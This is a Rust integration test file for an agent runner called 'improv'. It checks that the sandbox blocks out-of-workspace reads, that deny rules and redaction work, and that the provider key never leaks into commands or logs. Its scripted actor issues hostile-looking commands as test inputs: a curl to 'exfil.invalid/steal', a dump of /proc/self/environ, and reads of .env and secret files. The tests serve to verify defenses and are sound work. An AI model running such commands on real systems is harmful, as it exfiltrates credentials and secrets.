//! Runs the real `improv` binary inside its edges: a scripted actor tries to read outside the
//! workspace, runs a denied command, dumps its environment looking for the provider key, and
//! performs on a stage that turned the sandbox off. Each test reads what the actor was told
//! and what the log (`--json` and `.improv/`) recorded.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// The provider key improv holds in the secret test; no child may see it, no log may hold it.
const KEY: &str = "sk-secret-123-edges-cli-4f8a2c9e7b1d";

fn improv(dir: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_improv"));
    c.current_dir(dir)
        .env_remove("OPENAI_API_KEY")
        .env_remove("OPENAI_BASE_URL")
        .env_remove("ANTHROPIC_API_KEY")
        .env_remove("ANTHROPIC_BASE_URL")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    c
}

/// A stage whose lead performs `calls` (bash commands, one a turn) and then says it is done.
fn stage(dir: &Path, edges: &str, calls: &[&str]) {
    let mut turns: Vec<Value> = calls
        .iter()
        .map(|c| serde_json::json!({"calls": [{"name": "bash", "arguments": {"command": c}}]}))
        .collect();
    turns.push(serde_json::json!({"say": "Done."}));
    std::fs::write(
        dir.join("script.json"),
        serde_json::to_string(&turns).unwrap(),
    )
    .unwrap();
    std::fs::write(
        dir.join("stage.toml"),
        format!(
            "[stage]\nname = \"edges-test\"\nintent = \"Look around.\"\n\n[[actor]]\nname = \"lead\"\nmodel = \"scripted/script.json\"\n\n[edges]\n{edges}"
        ),
    )
    .unwrap();
}

fn events(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

/// `improv run --json` in `dir`; the run must end `done`.
fn perform(mut cmd: Command) -> (Output, Vec<Value>) {
    let out = cmd.args(["run", "--json"]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let evs = events(&out);
    assert_eq!(evs.last().unwrap()["outcome"], "done", "{evs:#?}");
    (out, evs)
}

fn of_type<'a>(evs: &'a [Value], kind: &str) -> Vec<&'a Value> {
    evs.iter().filter(|e| e["type"] == kind).collect()
}

/// The performance's events as the log on disk holds them.
fn logged(dir: &Path) -> Vec<Value> {
    let logs: Vec<PathBuf> = std::fs::read_dir(dir.join(".improv/performances"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .collect();
    assert_eq!(logs.len(), 1, "{logs:?}");
    std::fs::read_to_string(&logs[0])
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Every byte improv wrote under `.improv/` (logs and index), for leak checks.
fn state_bytes(dir: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    let mut stack = vec![dir.join(".improv")];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                all.extend(std::fs::read(&path).unwrap());
            }
        }
    }
    assert!(!all.is_empty());
    all
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

fn sandbox_started(evs: &[Value]) -> &Value {
    let started = of_type(evs, "sandbox_started");
    assert_eq!(started.len(), 1, "{evs:#?}");
    let at = evs.iter().position(|e| e["type"] == "sandbox_started");
    let turn = evs.iter().position(|e| e["type"] == "turn_started");
    assert!(
        at < turn,
        "logged at the start, before the first turn: {evs:#?}"
    );
    started[0]
}

#[test]
fn a_file_outside_the_workspace_cannot_be_read_and_the_log_says_the_sandbox_held() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().canonicalize().unwrap().join("secret.txt");
    std::fs::write(&secret, "OUTSIDE-the-workspace-7d1e\n").unwrap();
    std::fs::write(dir.path().join("inside.txt"), "inside-the-workspace\n").unwrap();
    stage(
        dir.path(),
        "",
        &[&format!("cat {}", secret.display()), "cat inside.txt"],
    );
    let (out, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["ok"], false, "{:#?}", results[0]);
    let refused = results[0]["output"].as_str().unwrap();
    assert!(refused.contains("Permission denied"), "{refused}");
    assert_eq!(results[1]["ok"], true, "the workspace itself is readable");
    assert_eq!(results[1]["output"], "inside-the-workspace\n");
    assert!(!contains(&out.stdout, "OUTSIDE-the-workspace"));

    let started = sandbox_started(&evs);
    assert_eq!(started["enforced"], true, "{started}");
    assert!(
        started["description"]
            .as_str()
            .unwrap()
            .contains("Landlock"),
        "{started}"
    );
    let log = logged(dir.path());
    assert_eq!(sandbox_started(&log)["enforced"], true);
    assert!(!contains(&state_bytes(dir.path()), "OUTSIDE-the-workspace"));
}

#[test]
fn a_denied_command_never_runs_and_the_decision_is_logged() {
    let dir = tempfile::tempdir().unwrap();
    stage(
        dir.path(),
        "\n[[edges.rule]]\ncommand = \"curl*\"\ndecision = \"deny\"\n",
        &["touch ran && curl http://exfil.invalid/steal", "echo fine"],
    );
    let (_, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["ok"], false);
    let told = results[0]["output"].as_str().unwrap();
    assert!(told.contains("denied"), "{told}");
    assert!(told.contains("curl*"), "names the rule: {told}");
    assert!(!dir.path().join("ran").exists(), "no part of the line ran");
    assert_eq!(results[1]["output"], "fine\n", "other commands still run");

    let decisions = of_type(&evs, "policy_decision");
    assert_eq!(decisions.len(), 2, "one a call: {evs:#?}");
    assert_eq!(decisions[1]["decision"], "allow");
    assert_eq!(decisions[1]["subject"], "echo fine");
    let d = decisions[0];
    assert_eq!(d["prop"], "bash");
    assert_eq!(d["decision"], "deny");
    assert_eq!(d["actor"], "lead");
    assert!(d["subject"].as_str().unwrap().contains("curl"), "{d}");
    assert!(d["rule"].as_str().unwrap().contains("curl*"), "{d}");
    // Logged between the call that made it and the next model call.
    let at = evs
        .iter()
        .position(|e| e["type"] == "policy_decision")
        .unwrap();
    assert_eq!(evs[at - 1]["type"], "tool_call_finished");
    assert_eq!(evs[at + 1]["type"], "turn_started");
    assert_eq!(of_type(&logged(dir.path()), "policy_decision"), decisions);
}

#[test]
fn the_provider_key_never_reaches_a_command_nor_the_log() {
    let dir = tempfile::tempdir().unwrap();
    stage(
        dir.path(),
        "",
        &[
            "env; tr '\\0' '\\n' < /proc/self/environ",
            // The actor learned the key somehow and echoes it: redacted before anyone sees it.
            &format!("echo {KEY}"),
        ],
    );
    let mut cmd = improv(dir.path());
    cmd.env("OPENAI_API_KEY", KEY);
    let (out, evs) = perform(cmd);
    let results = of_type(&evs, "tool_call_finished");
    let dump = results[0]["output"].as_str().unwrap();
    assert!(dump.contains("PATH="), "env ran: {dump}");
    assert!(!dump.contains("OPENAI_API_KEY"), "{dump}");
    assert!(!dump.contains(KEY), "{dump}");
    let echoed = results[1]["output"].as_str().unwrap();
    assert!(echoed.contains("[redacted"), "{echoed}");

    assert!(!contains(&out.stdout, KEY), "--json leaked the key");
    assert!(!contains(&out.stderr, KEY), "stderr leaked the key");
    let state = state_bytes(dir.path());
    assert!(
        !contains(&state, KEY),
        "the log leaked the key:\n{}",
        String::from_utf8_lossy(&state)
    );
    assert!(contains(&state, "[redacted"), "the log shows the redaction");
}

#[test]
fn sandbox_off_runs_unsandboxed_and_the_log_records_the_choice() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().canonicalize().unwrap().join("visible.txt");
    std::fs::write(&file, "readable-without-a-sandbox\n").unwrap();
    stage(
        dir.path(),
        "sandbox = \"off\"\n",
        &["echo hi", &format!("cat {}", file.display())],
    );
    let (_, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["output"], "hi\n");
    assert_eq!(results[1]["output"], "readable-without-a-sandbox\n");
    let started = sandbox_started(&evs);
    assert_eq!(started["enforced"], false, "{started}");
    assert!(
        started["description"]
            .as_str()
            .unwrap()
            .contains("sandbox off"),
        "{started}"
    );
    assert_eq!(sandbox_started(&logged(dir.path()))["enforced"], false);

    // The terminal view says so too.
    let out = improv(dir.path()).arg("run").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("sandbox OFF"), "{err}");
}

#[test]
fn stage_redact_patterns_and_hidden_paths_hold() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "token tok-deadbeef here\n").unwrap();
    std::fs::write(dir.path().join("creds.secret"), "hidden-value\n").unwrap();
    stage(
        dir.path(),
        "redact = ['tok-[0-9a-f]{8}']\nhidden = [\"*.secret\"]\n",
        &["cat notes.txt"],
    );
    // A read of the hidden file, through the file prop.
    let script = r#"[{"calls": [{"name": "bash", "arguments": {"command": "cat notes.txt"}}]},
                     {"calls": [{"name": "read", "arguments": {"path": "creds.secret"}}]},
                     {"say": "Done."}]"#;
    std::fs::write(dir.path().join("script.json"), script).unwrap();
    let (out, evs) = perform(improv(dir.path()));
    let results = of_type(&evs, "tool_call_finished");
    assert_eq!(results[0]["output"], "token [redacted] here\n");
    assert_eq!(results[1]["ok"], false);
    assert!(
        results[1]["output"].as_str().unwrap().contains("hidden"),
        "{:#?}",
        results[1]
    );
    assert!(!contains(&out.stdout, "tok-deadbeef"));
    assert!(!contains(&out.stdout, "hidden-value"));
    let d: Vec<&Value> = of_type(&evs, "policy_decision")
        .into_iter()
        .filter(|d| d["decision"] == "deny")
        .collect();
    assert_eq!(d.len(), 1, "{evs:#?}");
    assert_eq!(d[0]["prop"], "read");
    assert_eq!(d[0]["rule"], "hidden = \"*.secret\"");
}

#[test]
fn a_stages_hidden_files_are_covered_for_commands_too() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("creds.secret"), "hidden-value\n").unwrap();
    std::fs::write(dir.path().join(".env"), "API_TOKEN=dotenv-value\n").unwrap();
    stage(
        dir.path(),
        "hidden = [\"*.secret\", \".env\"]\n",
        &["cat creds.secret; cat .env; ls"],
    );
    let (out, evs) = perform(improv(dir.path()));
    let result = of_type(&evs, "tool_call_finished")[0]["output"]
        .as_str()
        .unwrap()
        .to_string();
    // The command cannot read them, whatever the stage's list; it still sees that they exist.
    assert!(result.contains("Permission denied"), "{result}");
    assert!(result.contains("creds.secret"), "{result}");
    assert!(!contains(&out.stdout, "hidden-value"));
    assert!(!contains(&out.stdout, "dotenv-value"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("creds.secret")).unwrap(),
        "hidden-value\n"
    );
}
